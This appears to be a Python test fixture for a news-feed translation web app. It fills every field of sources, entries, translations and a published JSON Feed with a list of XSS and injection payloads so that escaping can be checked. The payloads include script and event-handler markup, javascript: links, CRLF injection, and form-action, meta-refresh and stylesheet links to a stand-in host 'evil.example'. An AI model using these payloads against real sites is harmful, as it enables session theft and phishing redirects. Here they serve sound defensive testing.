"""A city of which every source, and the engine that translates them, is an enemy."""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

from feeds.model import Enclosure, Finding, Person, State
from tests.webapp.city import NOON, City

MARK = "window.hacked=1"
"""What none of it gets done."""
MARKUP = (
    f"<script>{MARK}</script>",
    f'"><script>{MARK}</script><x y="',
    f"</title></style></textarea></script><script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}><script>{MARK}</script><a xlink:href='javascript:{MARK}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s /><use href='data:image/svg+xml,<svg onload={MARK}>'/></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={MARK}&gt;">',
    f"<a href='javascript:{MARK}'>a</a><a href='java\tscript:{MARK}'>b</a><a href=' &#1;javascript:{MARK}'>c</a>",
    f"<a href='data:text/html,<script>{MARK}</script>'>d</a><a href='vbscript:{MARK}'>e</a><a href='//evil.example'>f",
    f"<p style='background:url(https://evil.example/)' onclick={MARK} class='told' id='main'>styled</p>",
    "<style>body{display:none}@import 'https://evil.example/';</style><link rel=stylesheet href=https://evil.example/>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe><object data='data:text/html,x'></object><embed src=x>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<form action=//evil.example/><button formaction='javascript:{MARK}'></button><input name=csrf_token></form>",
    f"<details open ontoggle={MARK}><summary>x</summary></details><video src=x onerror={MARK} autoplay></video>",
    f"<input autofocus onfocus={MARK}><select autofocus onfocus={MARK}></select><body onload={MARK}>",
    f'" autofocus onfocus={MARK} x="',
    f"' onmouseover={MARK} '",
    "<template><script>x</script></template><noscript><p title='</noscript><script>x</script>'></noscript>",
    "<!--><script>x</script>--><![CDATA[<script>x</script>]]><?xml version='1.0'?>",
    "{{7*191}}{% raw %}${7*191}#{7*191}<%= 7*191 %>",
    "\u202egnp.exe\u202c \ufeff\u200b\x7f \U0001f534 " + "W" * 300,
)
LINKS = (
    f"javascript:{MARK}", f"JaVaScRiPt:{MARK}", f"\x01javascript:{MARK}", f"java\nscript:{MARK}", f"vbscript:{MARK}",
    f"data:text/html,<script>{MARK}</script>", f'https://evil.example/"onmouseover="{MARK}', "//evil.example/x",
    f"https://evil.example/<script>{MARK}</script>", "https://news.example@evil.example/", "https://[::1", "file:///etc/x",
    f"feed:javascript:{MARK}", "https://evil.example/\r\nSet-Cookie: a=b", "http://evil.example/'><svg onload=x>",
)  # fmt: skip
TYPES = ('image/png" onerror="x', f"image/svg+xml</li><script>{MARK}</script>", "text/html", "")
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f64540"
    "0000000049454e44ae426082"
)
"""A picture of one pixel."""
PICTURE = "https://pictures.example/1.png?a=1&b=2"


def hostile_city(picture: Path) -> City:
    """Each markup in every field of an entry, of its translations and of a source; ``picture`` is the copy of one."""
    city = City(page_size=5)
    leeds, trams = city.add_partner("leeds"), city.add_topic("trams")
    for number, markup in enumerate(MARKUP):
        link = LINKS[number % len(LINKS)]
        source = city.add_source(f"enemy-{number}", title=markup, rights=markup, language="uk")
        city.check(source.id, last_error=markup)
        alt = markup.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
        body = f'{markup}<p>{markup}</p><p>x <a href="{alt}">y</a></p><img src="{PICTURE}" alt="{alt}" title="{alt}">'
        key = city.add_entry(
            markup, source_id=source.id, summary=markup, content=body, link=link, categories=(markup, link),
            authors=(Person(markup, email=link, uri=link),), published=NOON - timedelta(hours=number),
            enclosures=tuple(Enclosure(one, kind) for one in (link, PICTURE) for kind in TYPES),
        )  # fmt: skip
        city.tag(key, leeds, trams)
        city.keep_picture(key, PICTURE, picture)
        for language, state in (("en", (*State,)[number % len(State)]), ("pl", State.TRANSLATED)):
            findings = (Finding("number", markup, unit=markup),)
            city.translate(
                key, markup, state, language=language, summary=markup, content=body, reason=markup, engine=markup,
                findings=findings,
            )  # fmt: skip
        if number % 5 == 4:
            city.alert(key, f"Air raid {number}")
        if number % 3 == 2:
            city.join(key, city.reading.front("en").items[-1].lead.entry.key)
    city.add_edition("all-en", title="All")
    city.publish("/editions/all-en.json", feed(), "application/feed+json")
    return city


def feed() -> bytes:
    """A published JSON Feed with all of it."""
    items = [
        {
            "id": f"urn:x:{number}", "url": LINKS[number % len(LINKS)], "title": markup, "content_html": markup,
            "date_published": NOON.isoformat(), "language": 'en" onload="x',
            "_visnyk": {"state": "translated", "engine": markup, "source": {"title": markup}},
        }
        for number, markup in enumerate(MARKUP)
    ]  # fmt: skip
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "All", "items": items}).encode()
